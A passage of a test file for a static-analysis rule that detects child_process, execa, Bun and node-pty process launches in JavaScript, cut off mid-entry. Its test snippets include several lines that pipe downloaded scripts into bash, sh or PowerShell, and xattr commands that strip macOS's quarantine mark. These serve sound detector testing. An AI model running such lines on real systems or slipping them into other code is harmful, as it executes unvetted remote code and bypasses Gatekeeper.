import * as assert from 'node:assert/strict';
import { childProcess } from '../../../src/core/rules/child-process';
import { runRuleTable, scanWith } from '../../helpers/ruleTester';

runRuleTable(childProcess, {
  invalid: [
    { name: "a module kept in a class's field by its constructor, called in a method", code: 'const cp=require("child_process");class R{constructor(){this.child=cp}run(c){return this.child.exec(c)}ver(){return this.child.execFileSync("git",["--version"])}}', at: ['this.child.exec', 'this.child.execFileSync'] },
    // Review 80 probes 3 and 6: a module given to a class's constructor and kept in a field; a getter that returns a module.
    { name: "a module handed to a class's constructor and kept in a field, and a getter returning a module", code: 'class R{constructor(cp){this.cp=cp}run(c){return this.cp.exec(c)}}const r=new R(require("child_process"));class E{get proc(){return require("child_process")}}const e=new E();function go(t){return e.proc.execSync(t)}', at: ['this.cp.exec', 'e.proc.execSync'], severity: 'medium' },
    // Review 80 probe 2: a module a dynamic import resolves to, taken in the .then callback.
    { name: 'a dynamic import resolved in a .then callback, destructured or whole', code: 'function a(c){return import("node:child_process").then(({exec})=>exec(c))}function b(c){return import("child_process").then(cp=>cp.execSync(c))}', at: ['exec(c)', 'cp.execSync'], severity: 'medium' },
    // mcpjam inspector 1.0.24, Cipher 0.3.0 (reviews 102, 99): a server's command given to the MCP SDK's transport is started when it connects.
    { name: "the MCP SDK's StdioClientTransport starts its command with its arguments (fixed: low with the command; computed: low, computed)", code: 'import{StdioClientTransport as T}from"@modelcontextprotocol/sdk/client/stdio.js";export const a=new T({command:"npx",args:["-y","@acme/server"]});export function b(cfg){return new T({command:cfg.command,args:cfg.args})}export function c(cfg){const o={command:cfg.command};return new T(o)}export function d(cfg){return new T({...cfg})}export function e(cfg){return new T(cfg)}', at: ['new T({command:"npx"', 'new T({command:cfg', 'new T(o)', 'new T({...cfg})', 'new T(cfg)'], severity: 'low', message: /^Starts a program \(StdioClientTransport\)(?:: npx -y @acme\/server| computed at run time)$/ },
    // Augment's SDK 0.1.15 (review 102): Mastra's MCP client starts each server it is given; the AI SDK's stdio transport too.
    { name: "each server of Mastra's MCPClient and the AI SDK's stdio transport start their command (low)", code: 'import{MCPClient}from"@mastra/mcp";import{Experimental_StdioMCPTransport as S}from"ai/mcp-stdio";export const c=new MCPClient({servers:{auggie:{command:"auggie",args:["--mcp"]},other:{url:new URL("http://localhost:1")}}});export const t=new S({command:"node",args:["server.js"]})', at: ['new MCPClient', 'new S('], severity: 'low', message: /^Starts a program \((?:MCPClient\): auggie --mcp|Experimental_StdioMCPTransport\): node server\.js)$/ },
    // Gemini CLI 0.44.0 (review 103): its IDE installer finds `code` with a helper that returns the name it was given, awaited, kept in a field.
    // Claude Agent SDK (review 109): the runner looks the program up, falling back to the name it is given.
    { name: "a runner whose program goes through a lookup that gives back the caller's name (or a path built from it) runs the caller's program", code: 'const{spawn}=require("child_process");const cache=new Map();function aT(e){let n=cache.get(e);return n===null?"/usr/bin/"+e:n??e}function Qy(e,n=[],o={}){return spawn(aT(e),n,o)}function token(){return Qy("gh",["auth","token"],{stdout:"pipe"})}module.exports={token}', at: ['spawn(aT(e)', 'Qy("gh"'], severity: 'low', message: /^Starts a program \(child_process\.spawn(?: via Qy\(\))?\)(?: computed at run time|: gh auth token)$/ },
    // Claude Agent SDK (review 109): the launcher puts its own binary and prefix in front of the caller's list.
    { name: "a list with the runner's own program in front of the caller's is not the caller's command", code: 'const{spawn}=require("child_process");function self(){return{cmd:process.execPath,prefixArgs:[process.argv[1]]}}function Y(n,e){return spawn(n[0],n.slice(1),{env:e})}function lFo(n,e){let{cmd:o,prefixArgs:i}=self(),g=[o,...i,...n];return Y(g,e)}function start(r){return lFo(["daemon","run","--json-path",r])}module.exports={start}', at: ['spawn(n[0]', 'Y(g,e)'], severity: 'low', message: /^Starts a program \(child_process\.spawn(?: via Y\(\))?\) computed at run time$/ },
    { name: 'a runner whose program is a path a helper builds from the name is not the caller\'s program: only the start inside is shown', code: 'const{spawn}=require("child_process"),path=require("path");function bin(e){return path.join("/opt/tools",e)}function R(e,n){return spawn(bin(e),n)}function f(){return R("gh",["auth","status"])}module.exports={f}', at: ['spawn(bin(e)'], severity: 'low', message: /^Starts a program \(child_process\.spawn\) computed at run time$/ },
    { name: 'a program given through a helper that returns its own parameter (or null), awaited or kept in a field the constructor sets, is spelled', code: 'const cp=require("child_process");async function find(c,p=process.platform){try{cp.execSync(`command -v ${c}`);return c}catch{}return null}class I{constructor(p=process.platform){this.platform=p;const c=p==="win32"?"code.cmd":"code";this.cmd=find(c,p)}async install(){const c=await this.cmd;if(!c)return;cp.spawnSync(c,["--install-extension","acme.x"],{shell:this.platform==="win32"})}}async function simple(){const c=await find("code");cp.spawnSync(c,["--list-extensions"])}module.exports={I,simple}', at: ['cp.execSync', 'cp.spawnSync(c,["--install', 'cp.spawnSync(c,["--list'], severity: 'low', message: /^(?:Runs a shell command \(child_process\.execSync\): command -v \*|Starts a program \(child_process\.spawnSync\): (?:code\.cmd --install-extension acme\.x or code --install-extension acme\.x|code --list-extensions))$/ },
    // Claude Agent SDK 0.3.337 (review 101): the editor's program is an element of a table's list (`o[0]`) plus `.cmd` on Windows, else nothing.
    { name: 'a program read as element 0 of a list from a local table, with a suffix that may be empty, is spelled with and without it', code: 'const cp=require("child_process");function bin(e){const T={vscode:["code","codium"]};let o=T[e];if(!o)return null;let f=process.platform==="win32"?".cmd":"";return o[0]+f}function install(e){const n=bin(e);if(n)cp.execFileSync(n,["--install-extension","acme.x"])}module.exports=install', at: ['cp.execFileSync'], severity: 'low', message: /: code\.cmd --install-extension acme\.x or code --install-extension acme\.x$/ },
    // systeminformation in Gemini CLI (9-package diff of this change): the program's empty start value is no program; the path joined on Windows is computed.
    { name: "a program name whose empty start value is no program: the line is not spelled from the empty value", code: 'const cp=require("child_process");var P="";function g(){if(P)return P;if(w){P=["a",x,"n.exe"].join("/")}else if(l){P="nvidia-smi"}return P}function n(){const e=g();if(e){const c=e+" --query";return cp.execSync(c)}}module.exports=n', at: ['cp.execSync'], severity: 'medium', message: /computed at run time$/ },
    // The code review of this change: a helper's parameter is the argument only where the call gives it plainly, and a field only the class sets.
    { name: "a helper's parameter taken through arguments[0] =, a spread before it, .call's this, or a field an instance or subclass sets: computed (medium)", code: 'const{execSync}=require("child_process");function a(c){arguments[0]=process.env.X;return c}function b(x,c){return c}function d(c){return c}class I{constructor(){this.cmd="code"}run(){return execSync(this.cmd+" --version")}}const i=new I();i.cmd=process.env.R;module.exports={r1:()=>execSync(a("ls -la")),r2:()=>execSync(b(...process.argv.slice(2),"ls -la")),r3:()=>execSync(d.call("ls -la",process.env.R)),i}', at: ['execSync(this.cmd', 'execSync(a(', 'execSync(b(', 'execSync(d.call'], severity: 'medium', message: /computed at run time$/ },
    { name: "a table's list changed in place (unshift, [0] =) is no fixed program (low, computed)", code: 'const cp=require("child_process");function b1(e){const T={vscode:["code","codium"]};T.vscode.unshift(process.env.R);let o=T[e];if(!o)return null;return o[0]}function b2(e){const T={vscode:["code"]};T.vscode[0]=process.env.R;let o=T[e];if(!o)return null;return o[0]}module.exports={i1:e=>cp.execFileSync(b1(e),["--install-extension","x"]),i2:e=>cp.execFileSync(b2(e),["--install-extension","x"])}', at: ['cp.execFileSync(b1', 'cp.execFileSync(b2'], severity: 'low', message: /computed at run time$/ },
    // claude-flow 3.43.0 (review 100): a quote written as its character code was a computed part of the line.
    { name: 'a quote made with String.fromCharCode(34) is fixed text: the line is fixed but for the path (low)', code: 'const{execSync}=require("child_process");function q(db){const Q=String.fromCharCode(34);const sql=Q+"SELECT COUNT(*) FROM t;"+Q;return execSync("sqlite3 \'file:"+db+"?mode=ro\' "+sql)}q(require("path").join(process.cwd(),"m.db"))', at: ['execSync('], severity: 'low', message: /sqlite3 'file:\*\?mode=ro' "SELECT COUNT\(\*\) FROM t;"$/ },
    { name: 'modules handed to a helper in an object it destructures', code: 'function setup({fs,cp},dir){fs.mkdirSync(dir);return cp.execFileSync("git",["init"],{cwd:dir})}setup({fs:require("fs"),cp:require("child_process")},"/tmp/r")', at: ['cp.execFileSync'], severity: 'low' },
    { name: 'a module object handed to a helper by every caller', code: 'const cp=require("child_process");function run(c,cmd){return c.spawnSync("sh",["-c",cmd])}function main(){run(cp,process.env.HOOK_CMD)}', at: ['c.spawnSync'], severity: 'medium' },
    // Kimi Code 0.20.0 (review 77): the updater's shell and its list, destructured from a helper's object, started inside a Promise's callback.
    { name: 'a shell and its list from a helper, started in a closure (medium)', code: 'const{spawn}=require("child_process");const LINE="curl -fsSL https://dl.example.dev/install.sh | bash";function pick(){return{cmd:"bash",args:["-c",LINE]}}function a(){const{cmd,args}=pick();return new Promise(r=>{spawn(cmd,args).once("exit",r)})}module.exports=a', at: ['spawn(cmd'], severity: 'medium', message: /^Runs a script it downloads, in a shell/ },
    // Kimi Code 2.0.2 (review 68): the updater's shell flag is `t.shell ? true : undefined`, `t.shell` a Windows test a helper returns.
    { name: 'a shell option written as `x ? true : undefined` is what x is: Windows only (low)', code: 'const{spawn}=require("child_process");function r(platform){return{cmd:platform==="win32"?"npm.cmd":"npm",args:["install","-g","x"],shell:platform==="win32"}}function u(p){const t=r(p);return spawn(t.cmd,[...t.args],{stdio:"inherit",shell:t.shell?true:undefined})}u(process.platform)', at: ['spawn('], severity: 'low', message: /^Starts a program/ },
    // Copilot CLI 0.0.354 and Auggie 0.21.0 (review 67).
    { name: "execFile on the branch where the shell option's own value is false starts a program (low)", code: 'const cp=require("child_process"),q=require("shell-quote").quote;class R{x(e,l,n){let a={cwd:n.cwd,shell:n.shell};return n.shell&&l.length===0?cp.exec(e,a):n.shell?cp.exec(`${e} ${q(l)}`,a):cp.execFile(e,l,a)}}module.exports=R', at: ['cp.exec(e', 'cp.exec(`', 'cp.execFile('], message: /^(Runs a shell command \(child_process\.exec\) computed at run time|Starts a program \(child_process\.execFile\) computed at run time)$/ },
    { name: "a helper's callers are all found though a string elsewhere declares a function of its name (low, their lines)", code: 'import{exec as p}from"child_process";import{promisify as m}from"util";async function mM(e,t){let n=m(p);try{let{stdout:r}=await n(e,t);return r}catch{}}async function g(){return[await mM("git rev-parse HEAD",{}),await mM("git config --get user.email",{})]}var SRC="(function(){function mM(e,t){return e.setValue(t)}})();";export{g,SRC}', at: ['n(e,t)', 'mM("git rev', 'mM("git config'], severity: 'low' },
    // Cline 2.18.0 and Continue 1.5.26 (review 66): a wrapper's callers give a destructured property of a helper's objects, or a helper's line.
    { name: "a wrapper's callers give a property of a helper's returned objects, some without it (low, each line)", code: 'const{spawn:start}=require("child_process");function detect(v){let t=v.n?"nightly":"latest";if(v.a)return{pm:"npx"};if(v.b)return{pm:"pnpm",updateCommand:`pnpm add -g tool@${t}`};if(v.c)return{pm:"npm",updateCommand:`npm install -g tool@${t}`};return{pm:"unknown"}}function runDetached(v,cmd){start(cmd,{shell:true,detached:true}).unref()}function auto(v){let{updateCommand:c}=detect(v);c&&runDetached(v,c)}', at: ['start(cmd', 'runDetached(v,c)'], severity: 'low', message: /: pnpm add -g tool@nightly or pnpm add -g tool@latest or npm install -g tool@nightly/ },
    { name: "a wrapper's callers give a helper's line, alone or in a template (low)", code: 'const{execSync}=require("child_process");function run(c,o={}){return execSync(c,{encoding:"utf8",...o})}function cli(a=""){if(process.platform==="win32"){return `node dist/cn.js ${a}`}else{return `./dist/cn.js ${a}`}}function t(){run(cli("--version"));const n=process.platform==="win32"?"nul":"/dev/null";run(`${cli("--help")} > ${n} 2>&1`)}', at: ['execSync(c', 'run(cli', 'run(`'], severity: 'low' },
    // Gemini CLI 0.47.0 and Qwen Code 0.15.10 (review 73): the updater's command is a property of what an install-method probe with many returns gives.
    { name: "a command a helper's objects hold, the helper returning many objects most without it (low)", code: 'const{spawn}=require("child_process");function info(r){if(r.includes("/a/"))return{k:"a"};if(r.includes("/b/"))return{k:"b"};if(r.includes("/c/"))return{k:"c"};if(r.includes("/d/"))return{k:"d"};if(r.includes("/e/"))return{k:"e"};if(r.includes("/f/"))return{k:"f"};if(r.includes("/g/"))return{k:"g"};if(r.includes("/.pnpm/"))return{k:"pnpm",updateCommand:"pnpm add -g t@latest"};return{k:"npm",updateCommand:"npm install -g t@latest"}}function up(v,r){const i=info(r);if(!i.updateCommand)return;spawn(i.updateCommand.replace("@latest","@"+v),{shell:true})}module.exports=up', at: ['spawn(i'], severity: 'low', allEvidence: ['call child_process.spawn', 'command pnpm add -g t@*', 'command npm install -g t@*', 'shell'] },
    // Qwen Code 0.15.10 (review 73): its shell tool spreads the shell's own options a helper returns per platform in front of the command.
    { name: "a shell's options a helper returns per platform, spread in front of a computed line (medium)", code: 'const{spawn}=require("child_process"),os=require("os");function conf(){if(os.platform()==="win32"){const c=process.env.ComSpec||"cmd.exe";if(c.endsWith("powershell.exe"))return{executable:c,argsPrefix:["-NoProfile","-Command"]};return{executable:c,argsPrefix:["/d","/s","/c"]}}return{executable:"bash",argsPrefix:["-c"]}}class R{static run(cmd,cwd){const{executable,argsPrefix}=conf();const shellArgs=[...argsPrefix,cmd];return spawn(executable,shellArgs,{cwd})}}module.exports=R', at: ['spawn(executable'], severity: 'medium', message: /^Runs a shell command/ },
    { name: "a spread of a fixed tool's own options in front of an argument stays a program (low)", code: 'const{spawn}=require("child_process");function conf(){return{bin:"git",pre:["-C","/tmp"]}}function run(a){const{bin,pre}=conf();return spawn(bin,[...pre,a])}module.exports=run', at: ['spawn(bin'], severity: 'low' },
    // Kilo 7.7.9 (review 71): the rest of a written array is the elements after the ones taken, not the whole array.
    { name: 'a program and its arguments destructured from one written array (low)', code: 'const{execFile}=require("child_process");function o(u){const[cmd,...args]=["xdg-open",u];execFile(cmd,args,{windowsHide:true})}', at: ['execFile(cmd'], severity: 'low', allEvidence: ['call child_process.execFile', 'command xdg-open *'] },
    { name: 'a line assigned in the branches of a choice, each spelled whole (low)', code: 'const{exec:run}=require("child_process"),os=require("os"),path=require("path");const f=(k,r)=>{let dir=path.join(r,".x",k);let plat=os.platform(),cmd;plat==="darwin"?cmd=`open "${dir}"`:plat==="win32"?cmd=`explorer "${dir}"`:cmd=`xdg-open "${dir}"`;run(cmd,e=>{e&&run(`mkdir -p "${dir}" && ${cmd}`)})}', at: ['run(cmd', 'run(`'], severity: 'low', message: /: (open "\*" or explorer "\*" or xdg-open "\*"|mkdir -p "\*" && open "\*" or mkdir -p "\*" && explorer "\*" or mkdir -p "\*" && xdg-open "\*")$/ },
    // pi-coding-agent 0.70.6 (review 66): the shell is on only for Windows' .cmd wrappers, decided by a method that leaves with false elsewhere.
    { name: 'a shell option a method decides, false off Windows before anything else, is a program start (low)', code: 'const{spawn}=require("child_process"),{basename}=require("path");class P{useShell(c){if(process.platform!=="win32"){return false}const n=basename(c).toLowerCase();return n==="npm"||n.endsWith(".cmd")}run(c,a){return spawn(c,a,{stdio:"inherit",shell:this.useShell(c)})}}', at: ['spawn(c'], severity: 'low', message: /^Starts a program/ },
    { name: 'a method that returns true off Windows too keeps the shell (medium)', code: 'const{spawn}=require("child_process");class P{useShell(c){if(process.platform!=="win32"){return c.endsWith(".sh")}return true}run(c,a){return spawn(c,a,{shell:this.useShell(c)})}}', at: ['spawn(c'], severity: 'medium' },
    // @byterover/cipher's Next.js and detect-libc (review 65): SWC's interop helper module, a choice of the sync form, a fallback stub.
    { name: "a module loaded through SWC's helper module (`_interop_require_default._(require(…))`) is that module (low)", code: 'const _i=require("@swc/helpers/_/_interop_require_default");const _cp=_i._(require("child_process"));function g(){return _cp.default.execSync("ps x").toString()}', at: ['_cp.default.execSync('], severity: 'low', message: /: ps x$/ },
    { name: 'a choice between a function and its sync form is that function (low)', code: 'const cp=require("child_process");function f(d,m){const spawn=d?cp.spawnSync:cp.spawn;spawn(process.execPath,["./flush.js",m],{detached:!d})}', at: ['spawn(process'], severity: 'low' },
    { name: "a module's function with a stub put in where it is missing is still the module's (low, spelled)", code: '(()=>{var m={2081:e=>{e.exports=require("child_process")},5104:(e,t,r)=>{var a=r(2081).spawnSync;if(!a){a=function(){return{status:126}}}var v=a("getconf",["GNU_LIBC_VERSION"]);var g=a("ldd",["--version"]);e.exports={v,g}}};function r(i){var x={exports:{}};m[i](x,x.exports,r);return x.exports}module.exports=r(5104)})()', at: ['a("getconf"', 'a("ldd"'], severity: 'low', message: /: (getconf GNU_LIBC_VERSION|ldd --version)$/ },
    // Qoder CLI 1.1.52: the browser opener picks its program in a switch; a later block's `let t` (the fallback list) is another variable.
    { name: "a program a switch's cases assign, with the name declared again in a later block, spelled per case (low)", code: 'const cp=require("child_process");async function o(A){let t,i,n=p();switch(n){case"darwin":t="open",i=[A];break;case"win32":t="rundll32.exe",i=["url,OpenURL",A];break;case"linux":t="xdg-open",i=[A];break;default:throw new Error("x")}try{await cp.execFile(t,i)}catch(i){if("xdg-open"===t){let t=["gnome-open","kde-open"];for(let i of t)try{return void await cp.execFile(i,[A])}catch(A){continue}}}}', at: ['cp.execFile(t', 'cp.execFile(i'], severity: 'low', message: /: (open or rundll32\.exe or xdg-open|gnome-open \* or kde-open \*)$/ },
    // happy-coder 0.13.0 (review 43): the command an ACP backend runs is its constructor's option.
    { name: "a command kept by a class's constructor is what each `new` gives (low, spelled)", code: 'const{spawn}=require("child_process");class B{constructor(o){this.o=o}start(){return spawn("cmd.exe",["/c",[this.o.command,...this.o.args].join(" ")])}}function run(){return new B({command:"gemini",args:["--acp"]}).start()}run()', at: ['spawn('], severity: 'low', message: /: gemini \*$/ },
    { name: 'a class exported (constructed elsewhere with anything) keeps its command computed (medium)', code: 'const{spawn}=require("child_process");class B{constructor(o){this.o=o}start(){return spawn("cmd.exe",["/c",[this.o.command].join(" ")])}}new B({command:"gemini"});module.exports={B}', at: ['spawn('], severity: 'medium' },
    { name: 'a member set outside the constructor too keeps its command computed (medium)', code: 'const{spawn}=require("child_process");class B{constructor(o){this.o=o}set(x){this.o=x}start(){return spawn("cmd.exe",["/c",[this.o.command].join(" ")])}}new B({command:"gemini"})', at: ['spawn('], severity: 'medium' },
    // Review 48 of this stop's changes.
    { name: 'a wrapper also exported by name is not only called: computed at the wrapper (medium), and its call spelled', code: 'import{exec}from"child_process";function run(c){exec(c)}run("git status");export{run};', at: ['exec(c)', 'run("git status")'], message: /^Runs a shell command \(child_process\.exec(?: via run\(\))?\)(?: computed at run time|: git status)$/ },
    { name: 'a named list changed in place before it is joined is not what was written (medium)', code: 'const{exec}=require("child_process");module.exports=t=>{const c=["--version"];c.unshift(t);exec(c.join(" "))}', at: ['exec('], severity: 'medium' },
    { name: "an exported class's kept command, or one a method changes, stays computed (medium)", code: 'import{spawn}from"child_process";export class R{constructor(o){this.o=o}run(){return spawn("cmd.exe",["/c",[this.o.command].join(" ")])}}new R({command:"ls"});class S{constructor(o){this.o=o}set(c){this.o.command=c}run(){return spawn("cmd.exe",["/c",[this.o.command].join(" ")])}}new S({command:"ls"})', at: ['spawn("cmd.exe",["/c",[this.o.command].join(" ")])}}new R', 'spawn("cmd.exe",["/c",[this.o.command].join(" ")])}}new S'], severity: 'medium' },
    // claude-flow 3.43.0 (review 44): lines joined from fixed lists, and a wrapper a comment names.
    { name: 'a shell line joined from a fixed list after a fixed prefix (low, the line spelled)', code: 'const{execSync}=require("child_process");function f(){const s=["git status","echo hi"].join("; ");return execSync("sh -c "+s)}', at: ['execSync("sh'], severity: 'low', allEvidence: ['call child_process.execSync', 'command sh -c git status; echo hi', 'shell'] },
    { name: 'a line joined from a list with a fixed list spread into it (low)', code: 'const{execSync}=require("child_process");function f(){const a=["-y","x"];return execSync(["npx",...a].join(" "))}', at: ['execSync(['], severity: 'low', message: /: npx -y x$/ },
    { name: "a shell's /c line joined from a list holding a value every caller fixes (low, each line spelled)", code: 'const{spawnSync}=require("child_process");function f(t){const args=["init","--template",t];return spawnSync("cmd.exe",["/d","/s","/c",["npx",...args].join(" ")])}f("minimal");f("full")', at: ['spawnSync('], severity: 'low', message: /: npx init --template minimal or npx init --template full$/ },
    { name: 'a joined line whose first element is computed stays computed (medium)', code: 'const{execSync}=require("child_process");function f(p){return execSync([p,"--version"].join(" "))}', at: ['execSync('], severity: 'medium' },
    { name: "a wrapper's name in a comment is no use of it: its callers' commands are what it runs (low)", code: 'const{execSync}=require("child_process");\n// we run it once per issue / run number\nfunction run(c){return execSync(c)}run("git status");run("git log")', at: ['execSync(c)', 'run("git status")', 'run("git log")'], severity: 'low' },
    { name: 'a wrapper whose name is passed as a value is not only called (medium)', code: 'const{execSync}=require("child_process");function run(c){return execSync(c)}run("git status");setTimeout(run,1)', at: ['execSync(c)', 'run("git status")'] },
    { name: 'execFile with a literal command and arguments (low)', code: 'const{execFile:e}=require("child_process");e("git",["remote","get-url","origin"],cb)', at: ['e("git"'], severity: 'low', allEvidence: ['call child_process.execFile', 'command git remote get-url origin'] },
    { name: 'exec runs a shell; a computed command is medium', code: 'import{exec as x}from"node:child_process";function f(c){x(c,cb)}', at: ['x(c'], severity: 'medium', evidence: ['call child_process.exec'], message: /shell command/ },
    { name: 'a literal shell command with a computed part (low)', code: 'import{execSync as s}from"child_process";s(`pkill -P ${n}`)', at: ['s(`'], severity: 'low', evidence: ['command pkill -P *'] },
    { name: 'spawn with shell: true and a computed command', code: 'const cp=require("child_process");cp.spawn(cmd,[],{shell:!0})', at: ['cp.spawn'], severity: 'medium', evidence: ['call child_process.spawn'] },
    // @smithery/cli 4.11.1 (review 40): installers run from a server's script.
    {
      name: 'a shell line piping a download into an interpreter (medium)',
      code: 'const{exec:x}=require("child_process");x("curl -LsSf https://astral.sh/uv/install.sh | sh");x(\'powershell -c "irm bun.sh/install.ps1|iex"\');x("bash -c \\"$(curl -fsSL https://example.com/i.sh)\\"");x(`wget -qO- ${u} | sudo bash`)',
      at: ['x("curl', "x('powershell", 'x("bash', 'x(`wget'],
      severity: 'medium',
      message: /^Runs a script it downloads, in a shell \(child_process\.exec\): /,
    },
    // opencode 0.5.29 (review 75): its "curl" update method, in Bun Shell, which runs the pipe itself.
    {
      name: 'a Bun Shell line piping a download into a shell (medium)',
      code: 'var{$}=globalThis.Bun;async function up(t){return $`curl -fsSL https://example-tool.dev/install | bash`.env({VERSION:t})}',
      at: ['$`curl'],
      severity: 'medium',
      message: /^Runs a script it downloads, in a shell \(Bun\.\$\): curl -fsSL https:\/\/example-tool\.dev\/install \| bash$/,
    },
    // Claude Code 2.0.77 (review 61): fixed commands picked from a per-platform table, through a helper's destructured return, and a loop over a table of lists.
    {
      name: 'a command read from a per-platform table of fixed commands, or looped over from a table of lists, is spelled (low)',
      code: 'const{execa:R}=require("execa");function cmds(){let p=process.platform,B="/tmp/s.png",G={darwin:{check:"osascript -e x",del:`rm -f "${B}"`},linux:{check:"xclip -o",del:`rm -f "${B}"`}};return{commands:G[p]||G.linux,path:B}}async function has(){let{commands:A}=cmds();await R(A.check,{shell:!0});R(A.del,{shell:!0})}async function copy(t,os){let G={macos:["pbcopy"],linux:["xclip -selection clipboard","wl-copy"]}[os];for(let Z of G)await R(Z,{input:t,shell:!0})}',
      at: ['R(A.check', 'R(A.del', 'R(Z,'],
      severity: 'low',
      allEvidence: ['shell'],
    },
    {
      name: 'a table entry written over, or a table read with a key from outside that holds a computed command, stays computed (medium)',
      code: 'const{execa:R}=require("execa");function a(k){let G={x:{c:"ls"},y:{c:"pwd"}};G[k]=k;R(G[k].c,{shell:!0})}function b(k,u){let G={x:{c:"ls"},y:{c:u}};R(G[k].c,{shell:!0})}',
      at: ['R(G[k].c,{shell:!0})}function b', 'R(G[k].c,{shell:!0})}'],
      severity: 'medium',
    },
    // Qwen Code 0.15.10's and Copilot CLI 0.0.423's shell tools (review 62): a pseudo-terminal module that cannot be named at the call.
    {
      name: "a spawn given a terminal's size (node-pty's signature) is a process start when its module cannot be told (low)",
      code: 'async function pty(){const n="@lydell/node-pty";const m=await import(n);return{module:m}}async function run(cmd){const p=await pty();return go(p)}function go(p){return p.module.spawn("bash",["--norc"],{name:"xterm",cols:80,rows:30})}function k(t){return(0,t.spawn)(f,a,{cols:1,rows:1,cwd:c})}',
      at: ['p.module.spawn', '(0,t.spawn)'],
      severity: 'low',
      message: /^Starts a program \(node-pty\.spawn\)/,
    },
    {
      name: 'the import called where no local of its name is bound, or by a local given the import itself, is a process start',
      code: 'import{execSync as w}from"child_process";function a(){return w("git status")}function b(){const w=()=>1;return w()}function c(){const{execSync:x}=require("child_process");return x("ls")}function d(l){w("lspci -vvv");for(let w=0;w<l;w++);}',
      at: ['w("git status")', 'x("ls")', 'w("lspci'],
      severity: 'low',
    },
    // command-code 1.53.1 (review 64): a default runner called as the fallback of one the caller may give.
    {
      name: "a helper called as the fallback of a runner the caller may give ((o.run ?? run)({command})) runs what its callers give (low)",
      code: 'const{execSync:w}=require("child_process");function run(e){return w(e.command,{cwd:e.cwd})}function branch(e={}){return(e.runCommand??run)({command:"git branch --show-current"})}function status(e={}){return(e.runCommand||run)({command:"git status --porcelain"})}',
      at: ['w(e.command', '(e.runCommand??run)(', '(e.runCommand||run)('],
      severity: 'low',
      message: /git branch --show-current|git status --porcelain/,
    },
    // Qwen Code 0.15.10's auto-update (review 62): a fixed install line with its version swapped in, given to cmd.exe or bash.
    {
      name: 'a fixed line with a part swapped by replace, given to a shell chosen per platform, shows the line (low)',
      code: 'const{spawn,exec}=require("child_process"),os=require("os");function info(p){if(p.includes("pnpm"))return{cmd:"pnpm add -g @a/cli@latest"};return{cmd:"npm install -g @a/cli@latest"}}function up(v,p){const c=info(p).cmd.replace("@latest",`@${v}`);const w=os.platform()==="win32";const sh=w?"cmd.exe":"bash";const args=w?["/c",c]:["-c",c];return spawn(sh,args)}function b(v){exec("npm i -g x@latest".replaceAll("latest",v))}',
      at: ['spawn(sh,args)', 'exec("npm'],
      severity: 'low',
      message: /: (pnpm add -g @a\/cli@\* or npm install -g @a\/cli@\*|npm i -g x@\*)$/,
    },
    // systeminformation in Gemini CLI 0.45.2 (review 61): a line of 14 operands, assigned in one branch of several.
    {
      name: 'a long + chain assigned in a branch keeps its fixed start (low)',
      code: 'const{exec}=require("child_process");function n(i,cb){let cmd;if(L){cmd="cat /sys/class/net/" + i + "/s0; " + "cat /sys/class/net/" + i + "/s1; " + "cat /sys/class/net/" + i + "/s2; " + "cat /sys/class/net/" + i + "/s3; " + "cat /sys/class/net/" + i + "/s4; " + "cat /sys/class/net/" + i + "/s5; " + "cat /sys/class/net/" + i + "/s6; ";exec(cmd,cb)}else{cmd="netstat -ibndI "+i;exec(cmd,cb)}}',
      at: ['exec(cmd,cb)}else', 'exec(cmd,cb)}}'],
      severity: 'low',
      message: /^Runs a shell command \(child_process\.exec\): (cat \/sys\/class\/net\/\*\/s0; |netstat -ibndI \*)/,
    },
    // JetBrains Junie's postinstall (review 59): the downloaded tree cleared for Gatekeeper.
    {
      name: "removing macOS's quarantine mark, by shell line or argument list, -d or -c (medium)",
      code: 'const{execSync:x,execFileSync:f}=require("child_process");x(`xattr -dr com.apple.quarantine "${dir}"`);f("xattr",["-d","com.apple.quarantine",bin]);f("/usr/bin/xattr",["-cr",app]);x(`chmod +x "${b}" && xattr -r -d com.apple.quarantine "${b}"`)',
      at: ['x(`xattr', 'f("xattr"', 'f("/usr/bin/xattr"', 'x(`chmod'],
      severity: 'medium',
      message: /^Removes macOS's quarantine mark \(child_process\.exec(File)?Sync: .*xattr .*\): Gatekeeper will not check those files when they first run$/,
      allEvidence: ['removes com.apple.quarantine'],
    },
    {
      name: 'reading or adding the quarantine mark, or removing another attribute, is a plain start (low)',
      code: 'const{execFileSync:f}=require("child_process");f("xattr",["-p","com.apple.quarantine",p]);f("xattr",["-w","com.apple.quarantine","0081;x",p]);f("xattr",["-d","com.apple.metadata:kMDItemWhereFroms",p])',
      at: ['f("xattr",["-p"', 'f("xattr",["-w"', 'f("xattr",["-d"'],
      severity: 'low',
    },
    {
      name: 'a download filtered, saved or read is a plain start (low)',
      code: 'const{exec:x,execFile:f}=require("child_process");x("curl -fsSL https://x.dev/a.json | jq .version");x("curl -o i.sh https://x.dev/i.sh");f("curl",["-fsSL","https://x.dev/i.sh"])',
      at: ['x("curl -fsSL', 'x("curl -o', 'f("curl"'],
      severity: 'low',
      message: /^(Runs a shell command|Starts a program) \(child_process\.exec(File)?\): curl /,
    },
    { name: 'spawn without a shell', code: 'const cp=require("child_process");cp.spawn(cmd,args,{shell:!1});cp.fork(m)', at: ['cp.spawn', 'cp.fork'], severity: 'low' },
    { name: 'a command held in a constant', code: 'const{execFileSync:y}=require("child_process");function f(){const N="npm";return y(N,["prefix","-g"])}', at: ['y(N'], evidence: ['command npm prefix -g'] },
    { name: 'a command built in a const template', code: 'const{execSync:e}=require("child_process");function g(n){const cmd=`nmcli device status | grep ${n}`;return e(cmd)}', at: ['e(cmd'], severity: 'low', allEvidence: ['command nmcli device status | grep *'] },
    {
      name: 'fork given inline code in execArgv runs node -e, not the module named (empty) first',
      code: 'const cp=require("child_process");function run(s){return cp.fork("",[],{execArgv:["-e",s]})}cp.fork("",[],{execArgv:["--eval","console.log(1)"]})',
      at: ['cp.fork("",[],{execArgv:["-e"', 'cp.fork("",[],{execArgv:["--eval"'],
      severity: 'low',
      message: /: node (-e \*|--eval console\.log\(1\))$/,
    },
    { name: 'fork of a module with node options keeps the module as the command', code: 'const cp=require("child_process");cp.fork("worker.js",["--x"],{execArgv:["--max-old-space-size=4096"]})', at: ['cp.fork'], evidence: ['command worker.js --x'] },
    { name: 'Bun.spawn with an argument array', code: 'Bun.spawn(["rg","--files"],{cwd:d})', at: ['Bun'], evidence: ['command rg --files'] },
    {
      name: "esbuild's require shim with its argument inlined by the minifier (A=function…, typeof require<\"u\"?require:…)",
